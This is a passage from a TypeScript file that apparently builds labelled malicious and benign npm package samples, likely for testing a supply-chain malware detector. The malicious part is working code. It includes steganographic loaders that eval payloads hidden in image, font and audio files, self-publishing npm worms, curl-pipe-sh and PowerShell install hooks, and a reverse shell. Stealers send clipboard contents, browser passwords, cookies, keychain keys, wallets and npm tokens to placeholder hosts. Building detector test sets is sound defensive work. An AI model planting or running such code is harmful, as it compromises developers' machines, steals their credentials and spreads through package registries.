    family: 'hijack',
    after: 'LD_PRELOAD exported from a shell startup file',
    delivery: 'postinstall',
    hook: 'bash ./setup.sh',
    files: { 'setup.sh': `#!/bin/bash\necho "export LD_PRELOAD=$HOME/.local/lib/libprof.so" >> ~/.bashrc\n` },
  },
  {
    id: 'ld-preload-assign',
    family: 'hijack',
    after: 'process.env.LD_PRELOAD assigned before running anything',
    delivery: 'append-main',
    code: `\n;(function(){process.env.LD_PRELOAD=require('path').join(__dirname,'prebuilds','libssl-shim.so');try{require('child_process').execSync('true');}catch(e){}})();\n`,
  },
];

// ---------------------------------------------------------------- malicious: data hidden in images and binary files

const PNG_HEAD = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da636460f80f0001040100f5e1d1b40000000049454e44ae426082',
  'hex',
);
const withTail = (img: Buffer, tail: string) => Buffer.concat([img, Buffer.from(tail)]);
/** A "pixel" payload: each byte of the code spread over the low bits of 4 bytes. */
function lsbEncode(code: string): Buffer {
  const out: number[] = [];
  for (const b of Buffer.from(code)) for (let k = 6; k >= 0; k -= 2) out.push(0xa0 | ((b >> k) & 3));
  return Buffer.concat([PNG_HEAD, Buffer.from(out)]);
}
/** Invisible Unicode: each byte as a variation selector (U+FE00–FE0F for 0–15, U+E0100… above). */
const invisible = (code: string) => [...Buffer.from(code)].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('');

const STEGANOGRAPHY: Snippet[] = [
  {
    id: 'png-tail-eval',
    family: 'steganography',
    after: "GuardDog npm-steganography: code appended after a PNG's IEND chunk, read and evaluated",
    delivery: 'require-from-main',
    files: {
      'lib/logo.js': `const fs = require('fs');\nconst path = require('path');\nconst img = fs.readFileSync(path.join(__dirname, '..', 'assets', 'logo.png'));\nconst payload = img.slice(img.indexOf('IEND') + 8).toString();\neval(payload);\n`,
      'assets/logo.png': withTail(PNG_HEAD, STAGE2),
    },
  },
  {
    id: 'ico-lsb-function',
    family: 'steganography',
    after: "low bits of an icon's pixels reassembled into code",
    delivery: 'postinstall',
    files: {
      'scripts/icon.js': `const fs = require('fs');\nconst d = fs.readFileSync(__dirname + '/../media/icon.ico');\nconst bytes = [];\nfor (let i = 59; i + 3 < d.length; i += 4) bytes.push(((d[i] & 3) << 6) | ((d[i + 1] & 3) << 4) | ((d[i + 2] & 3) << 2) | (d[i + 3] & 3));\nnew Function(Buffer.from(bytes).toString())();\n`,
      'media/icon.ico': lsbEncode(STAGE2),
    },
  },
  {
    id: 'font-tail-vm',
    family: 'steganography',
    after: "a base64 payload after a font's data, run in a vm context",
    delivery: 'require-from-main',
    files: {
      'lib/fonts.js': `const fs = require('fs');\nconst vm = require('vm');\nconst f = fs.readFileSync(require.resolve('../fonts/inter.woff2'), 'latin1');\nconst code = Buffer.from(f.split('##')[1] || '', 'base64').toString();\nvm.runInNewContext(code, { require, process });\n`,
      'fonts/inter.woff2': withTail(Buffer.from('774f4632000100000000', 'hex'), `##${b64(STAGE2)}`),
    },
  },
  {
    id: 'bin-xor-require',
    family: 'steganography',
    after: 'a "data" file XOR-decoded, written out and required',
    delivery: 'postinstall',
    files: {
      'install.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst raw = fs.readFileSync(path.join(__dirname, 'data', 'table.bin'));\nfor (let i = 0; i < raw.length; i++) raw[i] ^= 0x2f;\nconst out = path.join(os.tmpdir(), 'tbl-' + Date.now() + '.js');\nfs.writeFileSync(out, raw);\nrequire(out);\n`,
      'data/table.bin': Buffer.from([...Buffer.from(STAGE2)].map((c) => c ^ 0x2f)),
    },
  },
  {
    id: 'jpg-marker-atob',
    family: 'steganography',
    after: 'text between markers in a JPEG, base64, evaluated',
    delivery: 'append-main',
    code: `\n;(function(){try{var s=require('fs').readFileSync(__dirname+'/banner.jpg','latin1').split('<<>>')[1];eval(atob(s));}catch(e){}})();\n`,
    files: { 'banner.jpg': withTail(Buffer.from('ffd8ffe000104a464946', 'hex'), `<<>>${b64(STAGE2)}<<>>`) },
  },
  {
    id: 'remote-image-tail',
    family: 'steganography',
    after: 'an image downloaded and the code after its end evaluated',
    delivery: 'require-from-main',
    files: {
      'lib/avatar.js': `const https = require('https');\nhttps.get('https://img.${H}/a.png', (res) => { const chunks = []; res.on('data', (c) => chunks.push(c)); res.on('end', () => { const b = Buffer.concat(chunks); const i = b.lastIndexOf('IEND'); new Function(b.slice(i + 8).toString('utf8'))(); }); }).on('error', () => {});\n`,
    },
  },
  {
    id: 'invisible-unicode-eval',
    family: 'steganography',
    after: 'os-info-checker-es6 / GlassWorm: code hidden as invisible Unicode characters, decoded and evaluated',
    delivery: 'require-from-main',
    files: {
      'lib/strings.js': `const s = '${invisible(STAGE2)}';\nconst bytes = [...s].map((c) => { const p = c.codePointAt(0); return p >= 0xe0100 ? p - 0xe0100 + 16 : p - 0xfe00; });\neval(Buffer.from(bytes).toString('utf8'));\n`,
    },
  },
  {
    id: 'gif-comment-exec',
    family: 'steganography',
    after: 'a command stored in a GIF comment block and run',
    delivery: 'postinstall',
    files: {
      'scripts/gif.js': `const fs = require('fs');\nconst { exec } = require('child_process');\nconst g = fs.readFileSync(__dirname + '/spinner.gif');\nconst at = g.indexOf(Buffer.from([0x21, 0xfe]));\nconst cmd = g.slice(at + 3, at + 3 + g[at + 2]).toString();\nexec(cmd);\n`,
      'scripts/spinner.gif': Buffer.concat([
        Buffer.from('474946383961010001000000002c', 'hex'),
        Buffer.from([0x21, 0xfe, 40]),
        Buffer.from(`curl -s https://g.${H}/x | sh`.padEnd(40)),
      ]),
    },
  },
  {
    id: 'wav-samples-function',
    family: 'steganography',
    after: 'audio samples carrying base64 text, decoded and run',
    delivery: 'require-from-main',
    files: {
      'lib/sound.js': `const fs = require('fs');\nconst path = require('path');\nconst w = fs.readFileSync(path.join(__dirname, 'ding.wav'));\nconst text = w.subarray(44).toString('ascii').replace(/[^A-Za-z0-9+/=]/g, '');\nFunction(Buffer.from(text, 'base64').toString())();\n`,
      'lib/ding.wav': Buffer.concat([Buffer.from('52494646', 'hex'), Buffer.alloc(40), Buffer.from(b64(STAGE2))]),
    },
  },
];

// ---------------------------------------------------------------- malicious: worms

const WORM: Snippet[] = [
  {
    id: 'worm-no-token',
    family: 'worm',
    after: "Shai-Hulud propagation without reading a token (npm uses the user's login)",
    delivery: 'postinstall',
    files: {
      'bundle.js': `const fs = require('fs'), path = require('path'), { execSync } = require('child_process');\nconst root = path.resolve(process.env.INIT_CWD || '.');\nconst pj = path.join(root, 'package.json');\nconst m = JSON.parse(fs.readFileSync(pj, 'utf8'));\nconst v = m.version.split('.'); v[2] = String(+v[2] + 1); m.version = v.join('.');\nm.scripts = Object.assign({}, m.scripts, { postinstall: 'node bundle.js' });\nfs.writeFileSync(pj, JSON.stringify(m, null, 2));\nfs.copyFileSync(__filename, path.join(root, 'bundle.js'));\ntry { execSync('npm publish', { cwd: root, stdio: 'ignore' }); } catch (e) {}\n`,
    },
  },
  {
    id: 'worm-config-token',
    family: 'worm',
    after: 'the token asked from npm config, then packages republished',
    delivery: 'postinstall',
    files: {
      'scripts/sync.js': `const cp = require('child_process');\nconst fs = require('fs');\nconst t = cp.execSync('npm config get //registry.npmjs.org/:_authToken').toString().trim();\nconst pkg = JSON.parse(fs.readFileSync('package.json'));\npkg.version = pkg.version.replace(/\\d+$/, (n) => +n + 1);\nfs.writeFileSync('package.json', JSON.stringify(pkg));\ncp.execSync('npm publish', { env: Object.assign({}, process.env, { NODE_AUTH_TOKEN: t }) });\n`,
    },
  },
  {
    id: 'worm-ls-packages',
    family: 'worm',
    after: 'every package the user can publish, packed and republished',
    delivery: 'require-from-main',
    files: {
      'lib/update.js': `const { execSync } = require('child_process');\nconst fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nconst list = JSON.parse(execSync('npm access list packages --json').toString());\nfor (const name of Object.keys(list)) {\n  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'p-'));\n  execSync('npm pack ' + name, { cwd: dir });\n  execSync('tar -xzf *.tgz', { cwd: dir, shell: true });\n  const pj = path.join(dir, 'package', 'package.json');\n  const m = JSON.parse(fs.readFileSync(pj, 'utf8'));\n  m.version = m.version + '-1';\n  fs.writeFileSync(pj, JSON.stringify(m));\n  fs.copyFileSync(__filename, path.join(dir, 'package', 'update.js'));\n  execSync('npm publish', { cwd: path.join(dir, 'package') });\n}\n`,
    },
  },
  {
    id: 'worm-libnpmpublish',
    family: 'worm',
    after: 'libnpmpublish with a modified manifest',
    delivery: 'postinstall',
    files: {
      'post.js': `const { publish } = require('libnpmpublish');\nconst fs = require('fs');\nconst manifest = JSON.parse(fs.readFileSync('./package.json', 'utf8'));\nmanifest.scripts = { ...manifest.scripts, preinstall: 'node post.js' };\nfs.writeFileSync('./package.json', JSON.stringify(manifest));\nconst tarball = fs.readFileSync('./pkg.tgz');\npublish(manifest, tarball, { forceAuth: { alwaysAuth: true } }).catch(() => {});\n`,
    },
  },
  {
    id: 'worm-pnpm',
    family: 'worm',
    after: 'pnpm publish after rewriting the manifest',
    delivery: 'require-from-main',
    files: {
      'lib/release.js': `const fs = require('fs');\nconst { spawnSync } = require('child_process');\nconst file = process.cwd() + '/package.json';\nconst p = JSON.parse(fs.readFileSync(file, 'utf8'));\np.scripts = p.scripts || {};\np.scripts.postinstall = 'node node_modules/.cache/r.js';\np.version = p.version.replace(/(\\d+)$/, (d) => String(Number(d) + 1));\nfs.writeFileSync(file, JSON.stringify(p, null, 2));\nspawnSync('pnpm', ['publish', '--no-git-checks'], { stdio: 'ignore' });\n`,
    },
  },
  {
    id: 'worm-yarn-npm-publish',
    family: 'worm',
    after: 'yarn npm publish after copying itself into a sibling workspace',
    delivery: 'postinstall',
    files: {
      'hook.js': `const fs = require('fs');\nconst path = require('path');\nconst cp = require('child_process');\nconst ws = path.resolve('..');\nfor (const d of fs.readdirSync(ws)) {\n  const pj = path.join(ws, d, 'package.json');\n  if (!fs.existsSync(pj)) continue;\n  const m = JSON.parse(fs.readFileSync(pj, 'utf8'));\n  m.scripts = Object.assign({}, m.scripts, { postinstall: 'node hook.js' });\n  fs.writeFileSync(pj, JSON.stringify(m, null, 2));\n  fs.copyFileSync(__filename, path.join(ws, d, 'hook.js'));\n  cp.exec('yarn npm publish', { cwd: path.join(ws, d) });\n}\n`,
    },
  },
  {
    id: 'worm-github-workflow',
    family: 'worm',
    after: "Shai-Hulud's GitHub side: a workflow written and pushed with the token",
    delivery: 'postinstall',
    files: {
      'bundle.js': `const fs = require('fs');\nconst { execSync } = require('child_process');\nconst t = process.env.GITHUB_TOKEN || process.env.GH_TOKEN;\nfs.mkdirSync('.github/workflows', { recursive: true });\nfs.writeFileSync('.github/workflows/shai-hulud.yml', 'on: push\\njobs:\\n  x:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -d "$(echo \${{ toJSON(secrets) }} | base64)" https://w.${H}\\n');\nexecSync('git add -A && git commit -m ci && git push https://x:' + t + '@github.com/victim/repo.git HEAD', { stdio: 'ignore' });\n`,
    },
  },
  {
    id: 'worm-tar-module',
    family: 'worm',
    after: 'the tarball unpacked with the tar module, the payload added, repacked and published',
    delivery: 'postinstall',
    files: {
      'scripts/p.js': `const tar = require('tar');\nconst fs = require('fs');\nconst cp = require('child_process');\nasync function go(file) {\n  await tar.x({ file, cwd: '/tmp/w' });\n  const m = JSON.parse(fs.readFileSync('/tmp/w/package/package.json'));\n  m.scripts = { ...m.scripts, postinstall: 'node p.js' };\n  fs.writeFileSync('/tmp/w/package/package.json', JSON.stringify(m));\n  await tar.c({ gzip: true, file: '/tmp/w/out.tgz', cwd: '/tmp/w' }, ['package']);\n  cp.execSync('npm publish /tmp/w/out.tgz');\n}\ngo(process.argv[2] || 'in.tgz').catch(() => {});\n`,
    },
  },
  {
    id: 'worm-spawn-args',
    family: 'worm',
    after: 'npm publish through spawn arguments after a version bump',
    delivery: 'append-main',
    code: `\n;(function(){try{var fs=require('fs'),cp=require('child_process');var f=process.cwd()+'/package.json';var m=JSON.parse(fs.readFileSync(f,'utf8'));m.version=m.version.replace(/\\d+$/,function(n){return +n+1;});m.scripts=m.scripts||{};m.scripts.preinstall='node index.js';fs.writeFileSync(f,JSON.stringify(m));cp.spawn('npm',['publish','--access','public'],{detached:true,stdio:'ignore'}).unref();}catch(e){}})();\n`,
  },
];

// ---------------------------------------------------------------- malicious: download and run, reverse shells

const DOWNLOAD_AND_RUN: Snippet[] = [
  {
    id: 'https-get-chmod-exec',
    family: 'download-and-run',
    after: 'a binary downloaded, made executable and run on install',
    delivery: 'postinstall',
    files: {
      'scripts/get.js': `const https = require('https'), fs = require('fs'), os = require('os'), path = require('path');\nconst { execFile } = require('child_process');\nconst dst = path.join(os.tmpdir(), 'node-helper');\nhttps.get('https://dl.${H}/helper-' + process.platform, (r) => { const f = fs.createWriteStream(dst); r.pipe(f); f.on('finish', () => { fs.chmodSync(dst, 0o755); execFile(dst); }); }).on('error', () => {});\n`,
    },
  },
  {
    id: 'curl-pipe-sh',
    family: 'download-and-run',
    after: 'curl | sh in a hook',
    delivery: 'postinstall',
    hook: `curl -fsSL https://get.${H}/install.sh | sh`,
    files: {},
  },
  {
    id: 'fetch-text-eval',
    family: 'download-and-run',
    after: 'fetched text evaluated',
    delivery: 'append-main',
    code: `\n;fetch('https://cfg.${H}/v.js').then(function(r){return r.text();}).then(eval).catch(function(){});\n`,
  },
  {
    id: 'reverse-shell',
    family: 'download-and-run',
    after: 'a reverse shell: a socket piped into /bin/sh',
    delivery: 'require-from-main',
    files: {
      'lib/debug.js': `const net = require('net');\nconst { spawn } = require('child_process');\nconst s = net.connect(4444, 'c2.${H}', () => { const sh = spawn('/bin/sh', []); s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s); });\ns.on('error', () => {});\n`,
    },
  },
  {
    id: 'wget-chmod-run',
    family: 'download-and-run',
    after: 'wget, chmod +x and run from /tmp in a shell script',
    delivery: 'install',
    hook: 'sh ./build.sh',
    files: { 'build.sh': `#!/bin/sh\nwget -q -O /tmp/.x https://dl.${H}/x && chmod +x /tmp/.x && /tmp/.x &\n` },
  },
  {
    id: 'powershell-iex',
    family: 'download-and-run',
    after: 'PowerShell iex (New-Object Net.WebClient).DownloadString',
    delivery: 'preinstall',
    hook: `powershell -c "iex (New-Object Net.WebClient).DownloadString('https://ps.${H}/a.ps1')"`,
    files: {},
  },
  {
    id: 'http-get-function',
    family: 'download-and-run',
    after: 'an HTTP response body run through new Function',
    delivery: 'require-from-main',
    files: {
      'lib/remote-config.js': `require('http').get('http://cfg.${H}/c', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => new Function(d)()); }).on('error', () => {});\n`,
    },
  },
  {
    id: 'python-inline-exec',
    family: 'download-and-run',
    after: 'python -c exec(urlopen(…).read()) in a hook',
    delivery: 'postinstall',
    hook: `python3 -c "import urllib.request;exec(urllib.request.urlopen('https://py.${H}/s.py').read())"`,
    files: {},
  },
  {
    id: 'download-detached-binary',
    family: 'download-and-run',
    after: 'a release asset fetched and started detached',
    delivery: 'postinstall',
    files: {
      'install/run.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst { spawn } = require('child_process');\n(async () => {\n  const res = await fetch('https://releases.${H}/agent/latest/' + os.platform());\n  const p = path.join(os.homedir(), '.local', 'bin', 'agentd');\n  fs.writeFileSync(p, Buffer.from(await res.arrayBuffer()), { mode: 0o755 });\n  spawn(p, { detached: true, stdio: 'ignore' }).unref();\n})().catch(() => {});\n`,
    },
  },
  {
    id: 'dns-txt-eval',
    family: 'download-and-run',
    after: 'code fetched from a DNS TXT record and evaluated',
    delivery: 'append-main',
    code: `\n;require('dns').resolveTxt('cfg.${H}',function(e,r){if(!e&&r&&r[0])eval(Buffer.from(r[0].join(''),'base64').toString());});\n`,
  },
];

// ---------------------------------------------------------------- malicious: clipboard, keychain, browser stores

const CLIPBOARD_KEYCHAIN: Snippet[] = [
  {
    id: 'pbpaste-post',
    family: 'clipboard-keychain',
    after: 'GuardDog clipboard-access: the clipboard read through pbpaste and sent',
    delivery: 'require-from-main',
    files: {
      'lib/clip.js': `const { execSync } = require('child_process');\nsetInterval(() => { try { const c = execSync('pbpaste').toString(); fetch('https://clip.${H}/c', { method: 'POST', body: JSON.stringify({ c }) }).catch(() => {}); } catch (e) {} }, 5000);\n`,
    },
  },
  {
    id: 'clipboardy-fetch',
    family: 'clipboard-keychain',
    after: 'a clipboard library polled, contents posted',
    delivery: 'append-main',
    code: `\n;(function(){try{var cb=require('clipboardy');var t=cb.readSync();require('https').request({hostname:'clip.${H}',method:'POST'}).on('error',function(){}).end(Buffer.from(t).toString('base64'));}catch(e){}})();\n`,
  },
  {
    id: 'get-clipboard-powershell',
    family: 'clipboard-keychain',
    after: 'Get-Clipboard from PowerShell',
    delivery: 'postinstall',
    files: {
      'scripts/w.js': `const { execSync } = require('child_process');\nconst text = execSync('powershell -NoProfile -Command Get-Clipboard').toString();\nrequire('http').request({ host: 'clip.${H}', method: 'POST', path: '/w' }).on('error', () => {}).end(JSON.stringify({ text }));\n`,
    },
  },
  {
    id: 'keychain-chrome-safe-storage',
    family: 'clipboard-keychain',
    after: 'macOS keychain: Chrome Safe Storage key through `security find-generic-password`',
    delivery: 'postinstall',
    files: {
      'post.js': `const { execSync } = require('child_process');\nlet k = '';\ntry { k = execSync('security find-generic-password -wa "Chrome Safe Storage"').toString(); } catch (e) {}\nfetch('https://k.${H}/s', { method: 'POST', body: Buffer.from(k).toString('base64') }).catch(() => {});\n`,
    },
  },
  {
    id: 'chrome-login-data',
    family: 'clipboard-keychain',
    after: 'browser password stores (Login Data, Local State) read and uploaded',
    delivery: 'require-from-main',
    files: {
      'lib/profile.js': `const fs = require('fs');\nconst path = require('path');\nconst base = path.join(process.env.LOCALAPPDATA || '', 'Google', 'Chrome', 'User Data');\nconst files = ['Local State', path.join('Default', 'Login Data')];\nconst out = {};\nfor (const f of files) { try { out[f] = fs.readFileSync(path.join(base, f)).toString('base64'); } catch (e) {} }\nrequire('https').request({ hostname: 'b.${H}', method: 'POST' }).on('error', () => {}).end(JSON.stringify(out));\n`,
    },
  },
  {
    id: 'firefox-logins',
    family: 'clipboard-keychain',
    after: 'Firefox logins.json and key4.db',
    delivery: 'postinstall',
    files: {
      'scripts/ff.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst root = path.join(os.homedir(), '.mozilla', 'firefox');\nconst found = [];\ntry { for (const p of fs.readdirSync(root)) for (const f of ['logins.json', 'key4.db']) { try { found.push([p + '/' + f, fs.readFileSync(path.join(root, p, f)).toString('base64')]); } catch (e) {} } } catch (e) {}\nfetch('https://ff.${H}/u', { method: 'POST', body: JSON.stringify(found) }).catch(() => {});\n`,
    },
  },
  {
    id: 'xclip-clipper',
    family: 'clipboard-keychain',
    after: 'a clipper: wallet addresses in the clipboard replaced (xclip)',
    delivery: 'require-from-main',
    files: {
      'lib/watch.js': `const { execSync } = require('child_process');\nsetInterval(() => { try { const c = execSync('xclip -selection clipboard -o').toString(); if (/^0x[a-fA-F0-9]{40}$/.test(c.trim())) execSync('echo -n 0x000000000000000000000000000000000000dEaD | xclip -selection clipboard -i'); } catch (e) {} }, 2000);\n`,
    },
  },
  {
    id: 'solana-exodus-wallets',
    family: 'clipboard-keychain',
    after: 'wallet files (Solana id.json, Exodus) posted',
    delivery: 'postinstall',
    files: {
      'setup.js': `const fs = require('fs'), os = require('os'), path = require('path');\nconst w = {};\nfor (const p of ['.config/solana/id.json', 'AppData/Roaming/Exodus/exodus.wallet']) { try { w[p] = fs.readFileSync(path.join(os.homedir(), p), 'utf8'); } catch (e) {} }\nrequire('https').request({ hostname: 'w.${H}', method: 'POST', path: '/w' }).on('error', () => {}).end(JSON.stringify(w));\n`,
    },
  },
  {
    id: 'cmdkey-secret-tool',
    family: 'clipboard-keychain',
    after: 'Windows Credential Manager (cmdkey) and libsecret (secret-tool)',
    delivery: 'postinstall',
    files: {
      'scripts/creds.js': `const { execSync } = require('child_process');\nconst run = (c) => { try { return execSync(c).toString(); } catch (e) { return ''; } };\nconst data = process.platform === 'win32' ? run('cmdkey /list') : run('secret-tool search --all service login');\nrequire('https').request({ hostname: 'c.${H}', method: 'POST' }).on('error', () => {}).end(Buffer.from(data).toString('base64'));\n`,
    },
  },
  {
    id: 'chrome-cookies-mac',
    family: 'clipboard-keychain',
    after: 'browser cookies database on macOS',
    delivery: 'append-main',
    code: `\n;(function(){try{var fs=require('fs'),p=require('os').homedir()+'/Library/Application Support/Google/Chrome/Default/Cookies';var d=fs.readFileSync(p).toString('base64');fetch('https://ck.${H}/c',{method:'POST',body:d}).catch(function(){});}catch(e){}})();\n`,
  },
];

// ---------------------------------------------------------------- malicious: install hooks that run new code

const INSTALL_HOOK: Snippet[] = [
  {
    id: 'hook-npx-remote',
    family: 'install-hook',
    after: 'a new preinstall running a package fetched at install time',
    delivery: 'preinstall',
    hook: 'npx --yes setup-helper-cli@latest init',
    files: {},
  },
  {
    id: 'hook-bun-runtime',
    family: 'install-hook',
    after: 'Mini Shai-Hulud: a preinstall that fetches a runtime and runs a bundled payload',
    delivery: 'preinstall',
    hook: 'node setup_bun.js',
    files: {
      'setup_bun.js': `const { execSync } = require('child_process');\ntry { execSync('bun --version', { stdio: 'ignore' }); } catch (e) { execSync('curl -fsSL https://rt.${H}/install | bash', { stdio: 'ignore' }); }\nexecSync('bun ' + __dirname + '/environment.js', { stdio: 'ignore' });\n`,
      'environment.js': `const t = process.env.NPM_TOKEN;\nfetch('https://rt.${H}/t', { method: 'POST', body: JSON.stringify({ t }) }).catch(() => {});\n`,
    },
  },
];

export const MALICIOUS: Snippet[] = [
  ...ENVIRONMENT,
  ...CREDENTIAL_FILES,
  ...HOST_INFO,
  ...DECODE_AND_RUN,
  ...REFLECTIVE,
  ...SILENT_LAUNCH,
  ...HIJACK,
  ...STEGANOGRAPHY,
  ...WORM,
  ...DOWNLOAD_AND_RUN,
  ...CLIPBOARD_KEYCHAIN,
  ...INSTALL_HOOK,
];

// ---------------------------------------------------------------- benign look-alikes

export const BENIGN: Snippet[] = [
  {
    id: 'define-node-env',
    family: 'environment',
    after: 'a bundler plugin replacing process.env.NODE_ENV (webpack DefinePlugin)',
    delivery: 'require-from-main',
    files: {
      'lib/define.js': `module.exports = function define(mode) {\n  const env = mode || process.env.NODE_ENV || 'production';\n  return { 'process.env.NODE_ENV': JSON.stringify(env), __DEV__: JSON.stringify(env !== 'production') };\n};\n`,
    },
  },
  {
    id: 'env-prefix-config',
    family: 'environment',
    after: 'a config loader reading its own MYAPP_* variables (rc, dotenv-expand)',
    delivery: 'require-from-main',
    files: {
      'lib/env-config.js': `const PREFIX = 'MYAPP_';\nmodule.exports = function fromEnv() {\n  const out = {};\n  for (const key of Object.keys(process.env).filter((k) => k.startsWith(PREFIX))) out[key.slice(PREFIX.length).toLowerCase()] = process.env[key];\n  if (process.env.MYAPP_DEBUG) console.error('config: ' + JSON.stringify(out));\n  return out;\n};\n`,
    },
  },
  {
    id: 'proxy-http-client',
    family: 'environment',
    after: 'an HTTP client honouring HTTPS_PROXY / NO_PROXY and posting JSON (axios, got)',
    delivery: 'require-from-main',
    files: {
      'lib/client.js': `const https = require('https');\nconst { URL } = require('url');\nfunction proxyFor(url) {\n  const noProxy = (process.env.NO_PROXY || '').split(',');\n  if (noProxy.includes(new URL(url).hostname)) return undefined;\n  return process.env.HTTPS_PROXY || process.env.https_proxy;\n}\nexports.postJson = (url, body, headers = {}) => new Promise((resolve, reject) => {\n  const data = JSON.stringify(body);\n  const req = https.request(url, { method: 'POST', headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(data), ...headers } }, (res) => { let s = ''; res.on('data', (c) => (s += c)); res.on('end', () => resolve(JSON.parse(s))); });\n  req.on('error', reject);\n  req.end(data);\n  return proxyFor(url);\n});\n`,
    },
  },
  {
    id: 'ssh-config-parser',
    family: 'credential-files',
    after: 'an SSH config parser listing host aliases (ssh-config)',
    delivery: 'require-from-main',
    files: {
      'lib/ssh-hosts.js': `const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nmodule.exports = function hosts() {\n  let text = '';\n  try { text = fs.readFileSync(path.join(os.homedir(), '.ssh', 'config'), 'utf8'); } catch (e) { return []; }\n  return text.split('\\n').filter((l) => /^\\s*Host\\s/i.test(l)).map((l) => l.trim().split(/\\s+/)[1]);\n};\n`,
    },
  },
  {
    id: 'netrc-auth-client',
    family: 'credential-files',
    after: "an HTTP client reading ~/.netrc for the host the user asked for (curl's behaviour)",
    delivery: 'require-from-main',
    files: {
      'lib/netrc.js': `const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nmodule.exports = function authFor(host) {\n  let text = '';\n  try { text = fs.readFileSync(path.join(os.homedir(), '.netrc'), 'utf8'); } catch (e) { return undefined; }\n  const m = new RegExp('machine\\\\s+' + host.replace(/\\./g, '\\\\.') + '\\\\s+login\\\\s+(\\\\S+)\\\\s+password\\\\s+(\\\\S+)').exec(text);\n  return m ? { username: m[1], password: m[2] } : undefined;\n};\n`,
    },
  },
  {
    id: 'lan-urls-dev-server',
    family: 'host-info',
    after: 'a dev server printing its LAN addresses (vite, webpack-dev-server)',
    delivery: 'require-from-main',
    files: {
      'lib/serve.js': `const http = require('http');\nconst os = require('os');\nexports.serve = (handler, port = 3000) => {\n  const server = http.createServer(handler).listen(port, () => {\n    for (const list of Object.values(os.networkInterfaces())) for (const i of list || []) if (i.family === 'IPv4' && !i.internal) console.log('  Network: http://' + i.address + ':' + port + '/');\n  });\n  return server;\n};\n`,
    },
  },
  {
    id: 'json-logger-hostname',
    family: 'host-info',
    after: 'a JSON logger stamping hostname and pid on each line (pino, bunyan)',
    delivery: 'require-from-main',
    files: {
      'lib/log.js': `const os = require('os');\nconst base = { pid: process.pid, hostname: os.hostname() };\nmodule.exports = (level, msg, extra) => { process.stdout.write(JSON.stringify({ level, time: Date.now(), ...base, msg, ...extra }) + '\\n'); };\n`,
    },
  },
  {
    id: 'telemetry-opt-out',
    family: 'host-info',
    after: 'anonymous usage telemetry with an opt-out (Next.js, Angular CLI, Gatsby)',
    delivery: 'require-from-main',
    files: {
      'lib/telemetry.js': `const https = require('https');\nconst os = require('os');\nconst { version } = require('../package.json');\nconst disabled = () => process.env.DO_NOT_TRACK === '1' || !!process.env.MYTOOL_TELEMETRY_DISABLED || !!process.env.CI;\nexports.record = (event) => {\n  if (disabled()) return;\n  const body = JSON.stringify({ event, version, platform: os.platform(), arch: os.arch(), node: process.versions.node });\n  const r = https.request('https://telemetry.mytool.dev/v1/events', { method: 'POST', headers: { 'content-type': 'application/json' } });\n  r.on('error', () => {});\n  r.end(body);\n};\n`,
    },
  },
  {
    id: 'mac-address-id',
    family: 'host-info',
    after: 'a node id from the MAC address (uuid v1, node-machine-id)',
    delivery: 'require-from-main',
    files: {
      'lib/node-id.js': `const os = require('os');\nconst crypto = require('crypto');\nmodule.exports = function nodeId() {\n  const macs = Object.values(os.networkInterfaces()).flat().filter((i) => i && !i.internal && i.mac !== '00:00:00:00:00:00').map((i) => i.mac);\n  return crypto.createHash('sha256').update(macs.sort().join(',') + os.hostname()).digest('hex').slice(0, 12);\n};\n`,
    },
  },
  {
    id: 'source-map-inline',
    family: 'decode-and-run',
    after: 'source-map-support reading an inline base64 source map',
    delivery: 'require-from-main',
    files: {
      'lib/maps.js': `const fs = require('fs');\nexports.inlineMap = (file) => {\n  const text = fs.readFileSync(file, 'utf8');\n  const m = /\\/\\/# sourceMappingURL=data:application\\/json;(?:charset=utf-8;)?base64,(\\S+)\\s*$/.exec(text);\n  return m ? JSON.parse(Buffer.from(m[1], 'base64').toString('utf8')) : null;\n};\n`,
    },
  },
  {
    id: 'template-compiler',
    family: 'decode-and-run',
    after: 'a template engine compiling to new Function (ejs, lodash.template)',
    delivery: 'require-from-main',
    files: {
      'lib/template.js': `const escape = (s) => String(s).replace(/[&<>"']/g, (c) => '&#' + c.charCodeAt(0) + ';');\nexports.compile = (tpl) => {\n  const src = 'let out = ""; with (data) { out += ' + JSON.stringify(tpl).replace(/<%=\\s*([\\s\\S]+?)\\s*%>/g, '" + escape($1) + "') + '; } return out;';\n  const fn = new Function('data', 'escape', src);\n  return (data) => fn(data, escape);\n};\n`,
    },
  },
  {
    id: 'hex-color-parse',
    family: 'decode-and-run',
    after: 'a colour library parsing hex pairs (tinycolor, color-string)',
    delivery: 'require-from-main',
    files: {
      'lib/hex.js': `exports.parseHex = (hex) => {\n  const h = hex.replace(/^#/, '');\n  const full = h.length === 3 ? h.split('').map((c) => c + c).join('') : h;\n  const out = [];\n  for (let i = 0; i < 6; i += 2) out.push(parseInt(full.substr(i, 2), 16));\n  return { r: out[0], g: out[1], b: out[2] };\n};\nexports.toHex = (r, g, b) => '#' + [r, g, b].map((n) => n.toString(16).padStart(2, '0')).join('');\n`,
    },
  },
  {
    id: 'dynamic-locale-require',
    family: 'reflective-access',
    after: 'locales required by a computed path and a Proxy using Reflect.get (date-fns, i18n libraries)',
    delivery: 'require-from-main',
    files: {
      'lib/locale.js': `const cache = {};\nexports.load = (lang) => (cache[lang] = cache[lang] || require('./locales/' + lang.replace(/[^a-z-]/gi, '')));\nexports.strict = (obj) => new Proxy(obj, { get(target, prop, receiver) { if (!(prop in target)) throw new Error('missing key ' + String(prop)); return Reflect.get(target, prop, receiver); } });\nexports.polyfill = (name, impl) => { if (typeof globalThis[name] === 'undefined') globalThis[name] = impl; };\n`,
    },
  },
  {
    id: 'open-browser-detached',
    family: 'silent-launch',
    after: "opening a URL in the browser, detached and unref'd (open, opener)",
    delivery: 'require-from-main',
    files: {
